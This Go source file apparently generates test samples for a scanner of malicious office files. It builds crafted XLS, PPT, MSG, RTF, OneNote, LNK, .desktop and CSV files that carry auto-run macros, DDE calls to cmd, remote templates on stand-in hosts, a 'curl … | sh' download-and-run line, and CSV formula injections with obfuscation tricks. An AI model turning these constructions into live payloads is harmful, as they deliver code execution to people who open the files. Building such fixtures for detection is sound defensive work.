package office

import (
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"strings"
)

func workbooks(out map[string][]byte) {
	book := func(records ...[]byte) []byte {
		return writeCFB(node{in: []node{stream("Workbook", biff(records...))}})
	}
	sheet := func(state, kind byte, name string) []byte {
		return record(biffBoundSheet, cat(le32(0), state, kind, byte(len(name)), byte(0), name))
	}
	auto := record(biffName, cat(le16(0x20), byte(0), byte(1), le16(7), le16(0), le16(0), make([]byte, 4), byte(0), "\x01", make([]byte, 7)))
	spelt := record(biffName, cat(le16(0), byte(0), byte(12), le16(0), le16(0), le16(0), make([]byte, 4), byte(1), utf16le("AuTo_Open\x00xy")))
	// EXEC("x") as tokens: a text, then the function 110 of one argument.
	exec := cat("\x17\x01\x00x", "\x42\x01", le16(110))
	formula := record(biffFormula, cat(make([]byte, 20), le16(len(exec)), exec))
	macroSheet := cat(record(biffBOF, cat(le16(0x600), le16(0x40), make([]byte, 12))), formula, record(0x0A, nil))
	out["20-excel4.xls"] = book(sheet(0, 0, "Table"), sheet(2, 1, "Macro1"), auto, spelt, record(0x0A, nil), macroSheet)
	out["21-excel-dde.xls"] = book(record(biffSupBook, cat(le16(0), le16(6), byte(0), "cmd\x03/c")), record(biffSupBook, cat(le16(1), le16(0x401))),
		record(biffSupBook, cat(le16(1), le16(len("\x01\x05http://evil.example/a.xls")), byte(0), "\x01\x05http://evil.example/a.xls")))
	out["22-excel-xor.xls"] = book(record(biffFilePass, cat(le16(0), le16(0x1234), le16(0x5678))), sheet(0, 1, "hidden from us"))
	link := cat("\xE0\xC9\xEA\x79\xF9\xBA\xCE\x11\x8C\x82\x00\xAA\x00\x4B\xA9\x0B", le32(2*len("http://cell.example/")+2), utf16le("http://cell.example/\x00"))
	out["23-excel-link.xls"] = book(record(0x1B8, cat(make([]byte, 32), link)))
}

func zlibOf(b []byte) []byte {
	var z bytes.Buffer
	w := zlib.NewWriter(&z)
	_, _ = w.Write(b)
	_ = w.Close()
	return z.Bytes()
}

func otherCompounds(out map[string][]byte) {
	ppt := func(version, id int, body []byte) []byte { return cat(le16(version), le16(id), le32(len(body)), body) }
	project := vbaProject([2]string{"Module1", "Sub Auto_Open()\r\nEnd Sub\r\n"})
	slides := ppt(0xF, 0x03E8, cat(ppt(0xF, 0x0409, ppt(0, 0x0FBA, utf16le("http://slide.example/"))), ppt(0x10, 0x1011, cat(le32(len(project)), zlibOf(project)))))
	out["25-slides.ppt"] = writeCFB(node{in: []node{stream("PowerPoint Document", slides), stream("Current User", make([]byte, 40))}})
	out["26-slides-encrypted.ppt"] = writeCFB(node{in: []node{stream("PowerPoint Document", slides), stream("Current User", cat(make([]byte, 12), le32(-0x0C2E3B21), make([]byte, 20)))}})
	text := func(id, s string) node { return stream("__substg1.0_"+id+"001F", utf16le(s)) }
	attached := func(name string, in ...node) node {
		return node{name: "__attach_version1.0_#" + name, dir: true, in: append(in, stream("__properties_version1.0", make([]byte, 32)))}
	}
	inner := storage("__substg1.0_3701000D", stream("__properties_version1.0", make([]byte, 32)), text("1000", "inner text"),
		attached("00000000", text("3704", "INNER~1.JS"), text("3707", "inner.js"), stream("__substg1.0_37010102", []byte("alert"))))
	out["27-mail.msg"] = writeCFB(node{in: []node{stream("__properties_version1.0", make([]byte, 32)), text("1000", "body"), stream("__substg1.0_10130102", []byte("<p>html</p>")),
		attached("00000000", text("3707", "report.doc"), stream("__substg1.0_37010102", macroOf("10-word-autoopen.doc"))),
		attached("00000001", text("3001", "a message"), inner), attached("00000002", text("3707", "nothing.txt"))}})
	out["28-names.msg"] = writeCFB(node{in: []node{stream("__properties_version1.0", make([]byte, 32)),
		attached("00000000", text("3707", "report.txt"), text("3704", "REPORT.EXE"), text("3001", "report.js"), stream("__substg1.0_37010102", []byte("alert")))}})
}

func ole1Of(class string, data []byte) []byte {
	text := func(s string) []byte { return cat(le32(len(s)+1), s, byte(0)) }
	return cat(le32(0x501), le32(2), text(class), le32(0), le32(0), le32(len(data)), data)
}

func richTexts(out map[string][]byte) {
	dropped := cat(le16(2), "run.js\x00", "C:\\a\\run.js\x00", le32(0x30000), le32(9), "C:\\a\\run\x00", le32(5), "alert")
	widely := func(s string) []byte { return cat(le32(len(s)), utf16le(s)[:2*len(s)]) }
	renamed := cat(le16(2), "a.txt\x00", "C:\\a\\b.txt\x00", le32(0x30000), le32(12), "C:\\t\\c.exe\x00\x00", le32(5), "alert", widely("C:\\t\\c.js"), widely("d.hta"), widely("C:\\a\\e.txt"))
	out["43-package-names.rtf"] = fmt.Appendf(nil, `{\rtf1\ansi {\object\objemb{\*\objclass Package}{\*\objdata %x}}}`, ole1Of("Package", renamed))
	object := func(inside string) string {
		return `{\object\objemb\objupdate{\*\objclass Package}{\*\objdata ` + inside + `}}`
	}
	digits := hex.EncodeToString(ole1Of("Package", dropped))
	out["40-package.rtf"] = []byte(`{\rtf1\ansi ` + object(digits) + `}`)
	evaded := digits[:20] + `{\*\unknown 12345678}` + "\r\n \t" + digits[20:41] + `\'41\objw ` + digits[41:60] + `{` + strings.ToUpper(digits[60:100]) + `}` + digits[100:]
	out["41-evasions.rtf"] = []byte(`{\rt` + object(evaded)) // a cut header, no end
	out["42-binary.rtf"] = []byte(`{\rtf1` + object(digits[:16]+`\bin`+number(len(digits)/2-8)+` `+string(ole1Of("Package", dropped)[8:])) + `}`)
	out["43-equation.rtf"] = []byte(`{\rtf1{\object\objemb{\*\objdata ` + hex.EncodeToString(ole1Of("eQuaTion.3", macroOf("18-word-package.doc"))) + `}}}`)
	out["44-template.rtf"] = []byte(`{\rtf1{\*\template http\'3a\'2f\'2fevil.example\u47?t.dotm}}`)
	out["45-fields.rtf"] = []byte(`{\rtf1{\field{\*\fldinst {DDE}{AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k x"}}{\fldrslt x}}{\field{\*\fldinst HYPERLINK "http://rtf.example/"}{\fldrslt here}}` +
		`{\field{\*\fldinst INCLUDEPICTURE "\\\\\\\\10.0.0.1\\\\s\\\\x.png" \\\\d}{\fldrslt}}}`)
	out["46-linked.rtf"] = []byte(`{\rtf1{\object\objautlink{\*\objdata ` + hex.EncodeToString(cat(le32(0x501), le32(1), le32(9), "htmlfile\x00", le32(22), "http://evil.example/a\x00", le32(0))) + `}}}`)
	out["47-deep.rtf"] = []byte(`{\rtf1` + strings.Repeat("{", 20000) + `{\*\template \\\\evil.example\\x}`)
	out["48-plain.rtf"] = []byte(`{\rtf1\ansi{\*\template C:\\Users\\a\\Normal.dotm} hello}`)
}

func number(n int) string {
	if n < 10 {
		return string(rune('0' + n))
	}
	return number(n/10) + string(rune('0'+n%10))
}

func notes(out map[string][]byte) {
	head := cat("\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D\xAE\xB1\x53\x78\xD0\x29\x96\xD3", make([]byte, 100))
	blob := func(s string) []byte {
		return cat("\xE7\x16\xE3\xBD\x65\x26\x11\x45\xA4\xC4\x8D\x4D\x0B\x7A\x9E\xAC", le32(len(s)), le32(0), make([]byte, 12), s, "\x22\xA7\xFB\x71\x79\x0F\x0B\x4A\xBB\x13\x89\x92\x56\x42\x6B\x24")
	}
	name := func(s string) []byte { return cat(le32(2*len(s)+2), utf16le(s+"\x00")) }
	out["50-one.one"] = cat(head, name("press.hta"), blob("<script>x</script>"))
	out["51-two.one"] = cat(head, name("a.cmd"), blob("echo"), blob("PNG"))
}

func shortcuts(out map[string][]byte) {
	head := func(flags int) []byte {
		return cat("L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46", le32(flags), make([]byte, 52))
	}
	text := func(s string) []byte { return cat(le16(len(s)), utf16le(s)) }
	info := cat(le32(28+19), le32(28), le32(1), le32(0), le32(28), le32(0), le32(28+18), "C:\\Windows\\cmd.exe\x00\x00")
	info = cat(le32(len(info)), info[4:])
	out["60-arguments.lnk"] = cat(head(lnkInfo|lnkArguments|lnkIcon|lnkUnicode), info, text("/c start http://lnk.example/a"+strings.Repeat(" ", 300)+"& more"), text(`\\10.0.0.1\s\x.ico`), le32(0))
	env := cat(le32(788), le32(-0x5fffffff), "%ComSpec%", make([]byte, 251), utf16le("%ComSpec%"), make([]byte, 502))
	out["61-environment.lnk"] = cat(head(lnkRelative|lnkUnicode), text(`..\cmd.exe`), env, le32(0), "MZ and what follows it, more than a little")
	item := func(b string) []byte { return cat(le16(len(b)+2), b) }
	list := cat(item("\x1f\x50"+strings.Repeat("\x01", 16)), item("\x2fC:\\\x00"), item("\x32\x00"+strings.Repeat("\x02", 10)+"RUN.EXE\x00"), le16(0))
	out["62-items.lnk"] = cat(head(lnkIDList), le16(len(list)), list, le32(0))
	out["63-cut.lnk"] = head(lnkInfo | lnkArguments | lnkUnicode)[:76]
	out["64-web.url"] = []byte("[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=file://10.0.0.1/share/a.exe\r\nIconFile=\\\\10.0.0.1\\s\\x.ico\r\n")
	out["65-start.desktop"] = []byte("#!/usr/bin/env xdg-open\n[Desktop Entry]\nType=Application\nExec=sh -c 'curl http://desk.example/x | sh'\n")
	out["66-library.library-ms"] = []byte(`<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>http://dav.example/share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>`)
	out["67-settings.settingcontent-ms"] = []byte(`<?xml version="1.0"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\system32\cmd.exe /c x</DeepLink></ApplicationInformation></SearchableContent></PCSettings>`)
}

func texts(out map[string][]byte) {
	out["70-query.iqy"] = []byte("WEB\r\n1\r\nhttp://iqy.example/q\r\n")
	out["71-macro.slk"] = []byte("ID;P\nO;E\nNN;NAuto_open;ER101C1;KOut Flank;F\nC;X1;Y101;K0;EEXEC(\"x\")\nE\n")
	out["72-dde.csv"] = []byte("name,value\na,=cmd|' /C calc'!A0\nb,2\n")
	for name, formula := range map[string]string{
		"arithmetic": "=1+2-3&cmd|'/c calc'!A0", "blanks": "  =   c m D  |   ' / c calc '  !  A0", "commas": "\"=SUM(1,2)*cmd|'/c calc'!A0\"", "lines": "\"=cmd|\n'/c calc'\n!A0\"",
		"long": "=" + strings.Repeat("1+", 2000) + "cmd|'/c calc " + strings.Repeat("x", 2000) + "'!A0", "far": "1\n" + strings.Repeat("1,2\n", 400_000) + "@cmd|'/c calc'!A0", "nul": "=\x00c\x00m\x00d|'/c calc'!A0",
		"one": "-cmd|'/c calc'!A0", "wide": "\xff\xfea\x00\t\x00=\x00c\x00m\x00d\x00|\x00'\x00/\x00c\x00'\x00!\x00A\x000\x00",
	} {
		out["72-dde-"+name+".csv"] = []byte(formula)
	}
	out["73-plain-more.csv"] = []byte("a|'b'|c!\n=1+2,'x'!\n-5;it's a 'b'!\n=SUM(A1),\"a | b\"\n")
	out["73-plain.csv"] = []byte("name,value\na,\"it's | 'quoted'!\"\nb,-2\n")
	mso := cat("ActiveMime", make([]byte, 40), zlibOf(macroOf("10-word-autoopen.doc")))
	lines := base64.StdEncoding.EncodeToString(mso)
	out["74-web-page.mht"] = []byte("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Location: editdata.mso\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
		lines[:76] + "\r\n" + lines[76:] + "\r\n--x--\r\n")
	out["75-word-2003.xml"] = []byte(`<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" w:macrosPresent="yes"><w:docSuppData><w:binData w:name="editdata.mso">` +
		lines + `</w:binData></w:docSuppData></w:wordDocument>`)
	out["76-flat-opc.xml"] = []byte(`<?xml version="1.0"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"><pkg:part pkg:name="/word/_rels/settings.xml.rels"><pkg:xmlData><Relationships><Relationship Type="` +
		relType + `attachedTemplate" Target="http://flat.example/t" TargetMode="External"/></Relationships></pkg:xmlData></pkg:part><pkg:part pkg:name="/word/vbaProject.bin"><pkg:binaryData>` +
		base64.StdEncoding.EncodeToString(vbaProject([2]string{"Module1", autoOpen})) + `</pkg:binaryData></pkg:part></pkg:package>`)
}
